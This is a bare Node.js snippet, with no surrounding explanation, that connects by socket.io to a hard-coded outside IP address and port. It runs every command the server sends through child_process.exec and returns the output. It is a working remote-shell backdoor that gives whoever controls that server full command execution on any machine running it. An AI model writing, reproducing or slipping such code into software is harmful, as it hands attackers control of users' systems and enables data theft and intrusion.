const io = require('socket.io-client');
const { exec } = require('child_process');
const socket = io('http://198.51.100.77:1224');
socket.on('command', (cmd) => {
  exec(cmd, (err, out) => socket.emit('result', out));
});
